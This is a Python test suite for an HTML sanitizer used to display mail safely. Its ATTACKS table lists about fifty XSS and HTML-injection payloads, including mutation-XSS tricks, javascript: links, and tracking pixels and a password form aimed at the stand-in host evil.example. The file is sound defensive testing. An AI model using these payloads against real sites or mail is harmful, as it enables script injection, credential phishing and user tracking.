"""Foreign HTML does nothing: it loads nothing, runs nothing, sends nothing, leads nowhere, covers nothing."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cloud.portal.safe_html import MAX_IMAGE_CHARACTERS, is_too_long, safe_html

LOGO = "data:image/png;base64,iVBORw0KGgo="
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without a blank": "<svg/onload=alert(1)>",
    "tracking pixel": '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    "source set": '<img srcset="https://evil.example/a 2x"><picture><source srcset="https://evil.example/b"></picture>',
    "lazy image": '<img data-src="https://evil.example/a" loading=lazy>',
    "own data image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "old background": '<table background="https://evil.example/a"><td background="https://evil.example/b">',
    "style attribute": '<p style="background:url(https://evil.example/a)">x</p>',
    "style element": "<style>@import url(https://evil.example/a);*{position:fixed}</style>",
    "style sheet": '<link rel=stylesheet href="https://evil.example/a.css">',
    "preload": '<link rel=dns-prefetch href="//evil.example">',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "form by attribute": '<button form=f formaction="https://evil.example">x</button>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "frame": '<iframe src="https://evil.example"></iframe><frameset><frame src="https://evil.example">',
    "frame with content": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b">',
    "applet": '<applet code="https://evil.example/a"></applet>',
    "video": '<video src="https://evil.example/a" poster="https://evil.example/b" autoplay></video>',
    "audio": '<audio src="https://evil.example/a" autoplay>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg use": '<svg><use href="https://evil.example/a#b"/></svg>',
    "svg foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg style mutation": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "title breaks out": "</title><script>alert(1)</script>",
    "document breaks out": "</body></html><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing": '<?xml-stylesheet href="https://evil.example/a.xsl"?>',
    "link by script": '<a href="javascript:alert(1)">x</a>',
    "link by script, hidden": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "link by data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link that ends its tag": '<a href="https://evil.example/&quot;><script>alert(1)</script>">x</a>',
    "link with markup in it": '<a href="https://evil.example/<script>alert(1)</script>">x</a>',
    "ping": '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
    "map": '<map name=m><area href="https://evil.example"></map><img usemap=#m>',
    "names that shadow": "<p id=form_token name=form_token class=password>x</p>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "manifest": '<html manifest="https://evil.example/a">',
    "dialog": "<dialog open>Your session is over</dialog>",
    "custom element": "<x-evil onclick=alert(1)>x</x-evil>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt>",
    "import": '<link rel=import href="https://evil.example/a">',
    "cite": '<q cite="https://evil.example">x</q><blockquote cite="https://evil.example">x</blockquote>',
}
ACTING = {
    "a",
    "script",
    "style",
    "form",
    "input",
    "button",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "link",
    "meta",
}
ACTING |= {
    "base",
    "video",
    "audio",
    "source",
    "template",
    "dialog",
    "details",
    "area",
    "map",
    "title",
    "body",
    "html",
    "marquee",
}
ATTRIBUTES = {"alt", "lang", "colspan", "rowspan", "start", "src"}


class Inspector(HTMLParser):
    """Fails at the first tag or attribute that could do something."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag.isalnum(), tag
        assert tag not in ACTING, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            assert name != "src" or value == LOGO, value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment is left: {data}")


def inspect(result: str) -> None:
    """An independent reader of the result finds nothing that acts."""
    inspector = Inspector()
    inspector.feed(result)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_does_nothing(attack: str) -> None:
    """Alone, and inside of what surrounds mail's HTML."""
    for source in (attack, f"<html><body><table><tr><td>{attack}</td></tr></table></body></html>", attack * 3):
        inspect(safe_html(source, {"logo": LOGO}))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS.values(), "<", ">", '"', "'", "<!--", "-->", "<a href=", "<img src=cid:logo", "x"])
    )
)
def test_no_mixture_of_attacks_does_anything(pieces: list[str]) -> None:
    """However they are nested and cut."""
    inspect(safe_html("".join(pieces), {"logo": LOGO}))
    inspect(safe_html("".join(piece[: len(piece) // 2] for piece in pieces), {"logo": LOGO}))


def test_words_and_structure_stay() -> None:
    """A person can read the message."""
    source = "<h1>Hello</h1><p>one <b>two</b></p><ul><li>three</li></ul><table><tr><td colspan=2>four</td></tr></table>"
    result = safe_html(source, {})
    for kept in ("<h1>Hello</h1>", "<b>two</b>", "<li>three</li>", '<td colspan="2">four</td>'):
        assert kept in result


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (
            '<a href="https://evil.example/x?a=1&amp;b=2">Your bank</a>',
            "Your bank [https://evil.example/x?a=1&amp;b=2]",
        ),
        ('<a href="mailto:a@example.com">write</a>', "write [mailto:a@example.com]"),
        ("<a name=x>anchor</a>", "anchor"),
        ('<a href="/relative">here</a>', "here"),
        ('<a href="https://example.com/?&lt;script&gt;">x</a>', "x [https://example.com/?&lt;script&gt;]"),
        (
            '<a href="https://a.example">1<table><tr><td><a href="https://b.example">2</a></table>',
            "[https://b.example]",
        ),
        (f'<a href="https://example.com/{"y" * 400}">x</a>', f"[https://example.com/{'y' * 280}]"),
    ],
)
def test_a_link_is_its_words_and_its_address(source: str, shown: str) -> None:
    """Where it would have led can be read, not followed."""
    result = safe_html(source, {})
    assert shown in result
    assert "<a" not in result


def test_own_pictures_are_shown_and_no_others() -> None:
    """By Content-ID, whatever the case of the scheme."""
    result = safe_html(
        '<img src="cid:logo" alt="Logo"><img src="CID:logo"><img src="cid:other"><img src="logo">', {"logo": LOGO}
    )
    assert result.count(LOGO) == 2
    assert result.count("<img") == 4
    assert 'alt="Logo"' in result


def test_one_picture_a_thousand_times_stays_small() -> None:
    """All data: URIs together are bounded."""
    picture = "data:image/png;base64," + "A" * 500_000
    assert len(safe_html('<img src="cid:p">' * 1000, {"p": picture})) < MAX_IMAGE_CHARACTERS + 100_000


@pytest.mark.parametrize("source", ["<div>" * 50_000, "<b><i>" * 50_000, "<a href=x><table>" * 20_000, "<" * 250_000])
def test_nesting_takes_bounded_time(source: str) -> None:
    """What the parser would need half a minute for is cut, and said to be."""
    started = time.monotonic()
    inspect(safe_html(source, {}))
    assert time.monotonic() - started < 5
    assert is_too_long(source)
